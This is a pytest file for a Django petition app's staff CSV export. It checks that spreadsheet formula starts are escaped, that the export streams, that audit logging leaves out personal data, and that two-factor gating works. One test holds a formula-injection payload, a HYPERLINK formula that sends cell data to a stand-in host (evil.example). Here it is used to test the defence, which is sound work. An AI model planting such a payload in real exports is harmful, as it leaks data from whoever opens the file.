"""Staff CSV exports open as plain data in spreadsheets and leave a trace in the audit log."""

from __future__ import annotations

import csv
import io
import json

import pytest
from django.http import StreamingHttpResponse
from django.urls import reverse

from undersigned.privacy.audit import verify
from undersigned.privacy.csvsafe import FORMULA_STARTS, escape_cell, streaming_csv_response
from undersigned.privacy.models import AuditEntry
from undersigned.signatures import actions
from undersigned.signatures.links import confirm_token
from undersigned.signatures.models import Signature

from .conftest import make_campaign

# Every character that makes a spreadsheet read a cell as a formula.
STARTS = ["=", "+", "-", "@", "\t", "\r"]


def test_the_list_of_formula_starts_is_complete():
    assert sorted(FORMULA_STARTS) == sorted(STARTS)


@pytest.mark.parametrize("start", STARTS, ids=repr)
def test_a_cell_starting_a_formula_gets_a_leading_quote(start):
    value = f'{start}HYPERLINK("https://evil.example/?"&A2,"click")'
    assert escape_cell(value) == "'" + value


@pytest.mark.parametrize(
    "value", ["Jane", "O'Brien", "Anne-Marie", "1-2", "José", "a=b", "02143", ""]
)
def test_ordinary_cells_are_left_alone(value):
    assert escape_cell(value) == value


def test_non_text_cells_become_text():
    assert escape_cell(None) == ""
    assert escape_cell(42) == "42"
    assert escape_cell(-1) == "'-1"


def test_the_csv_is_streamed_not_built_in_memory():
    pulled = []

    def rows():
        for n in range(1000):
            pulled.append(n)
            yield [f"=row {n}"]

    response = streaming_csv_response("x.csv", ["name"], rows())
    assert isinstance(response, StreamingHttpResponse)
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="x.csv"'
    chunks = iter(response.streaming_content)
    assert next(chunks) == b"name\r\n"
    assert next(chunks) == b"'=row 0\r\n"
    assert pulled == [0]
    assert len(list(chunks)) == 999


def sign(campaign, first_name, postal_code, email):
    details = actions.SignerDetails(
        email=email,
        first_name=first_name,
        last_name="Doe",
        postal_code=postal_code,
        street_address="1 Private Street",
        phone="+1 555 0100",
        comment="=private comment",
    )
    return actions.sign(campaign, details).signature


def export(staff_client, signatures):
    url = reverse("admin:signatures_signature_changelist")
    data = {"action": "export_csv", "_selected_action": [str(s.pk) for s in signatures]}
    return staff_client.post(url, data)


def rows_of(response) -> list[list[str]]:
    text = b"".join(response.streaming_content).decode()
    return list(csv.reader(io.StringIO(text, newline="")))


@pytest.mark.django_db
def test_the_admin_export_quotes_every_formula_start_in_the_file(staff_client, campaign):
    # Names carry the visible starts; tabs and carriage returns, which a name
    # loses to trimming, ride in the postal code.
    signatures = [
        sign(campaign, f"{start}cmd", f"{start}02143", f"signer{n}@example.org")
        for n, start in enumerate(STARTS)
    ]
    response = export(staff_client, signatures)

    assert response.status_code == 200
    assert response.streaming
    rows = rows_of(response)
    assert rows[0] == [
        "campaign", "name", "postal code", "status", "signed", "confirmed", "comment",
    ]  # fmt: skip
    assert len(rows) == 1 + len(STARTS)
    for row in rows[1:]:
        assert row[0] == campaign.slug
        assert row[2][0] == "'" and row[2][1] in STARTS
        assert row[3] == "Pending confirmation"
        assert row[5] == ""
    # A name's leading tab or carriage return is trimmed away before export.
    names = ["'=cmd Doe", "'+cmd Doe", "'-cmd Doe", "'@cmd Doe", "cmd Doe", "cmd Doe"]
    assert sorted(row[1] for row in rows[1:]) == sorted(names)
    assert sorted(row[2][1:] for row in rows[1:]) == sorted(f"{s}02143" for s in STARTS)
    # The comment is in (organisers read it: the form says so), formula-safe.
    assert {row[6] for row in rows[1:]} == {"'=private comment"}
    text = json.dumps(rows)
    for private in ["@example.org", "Private Street", "555 0100"]:
        assert private not in text


@pytest.mark.django_db
def test_an_export_is_recorded_in_the_audit_log_without_personal_data(staff_client, campaign):
    other = make_campaign(slug="another-campaign")
    signatures = [
        sign(campaign, "Quenelda", "02143", "quenelda@example.org"),
        sign(campaign, "Ysolde", "02144", "ysolde@example.org"),
        sign(other, "Marchbanks", "02145", "marchbanks@example.org"),
    ]
    actions.confirm(signatures[0].pk, confirm_token(signatures[0].pk, signatures[0].link_version))

    response = export(staff_client, signatures)
    entry = AuditEntry.objects.get()
    assert entry.actor == "staff"
    assert entry.action == AuditEntry.Action.EXPORT
    assert entry.detail["rows"] == 3
    assert entry.detail["campaigns"] == sorted([campaign.pk, other.pk])
    recorded = json.dumps(entry.detail)
    for private in ["Quenelda", "Ysolde", "Marchbanks", "example.org", "0214"]:
        assert private not in recorded
    assert verify().ok

    rows = rows_of(response)
    assert {row[1] for row in rows[1:]} == {"Quenelda Doe", "Ysolde Doe", "Marchbanks Doe"}
    confirmed = next(row for row in rows if row[1] == "Quenelda Doe")
    assert confirmed[3] == "Confirmed" and confirmed[5] != ""
    assert Signature.objects.count() == 3


@pytest.mark.django_db
def test_staff_without_a_second_factor_cannot_export(client, campaign, django_user_model):
    staff = django_user_model.objects.create_superuser("halfway", "h@example.org", "pw")
    client.force_login(staff)
    signature = sign(campaign, "Jane", "02143", "jane@example.org")
    response = export(client, [signature])
    assert response.status_code == 302
    assert not AuditEntry.objects.exists()
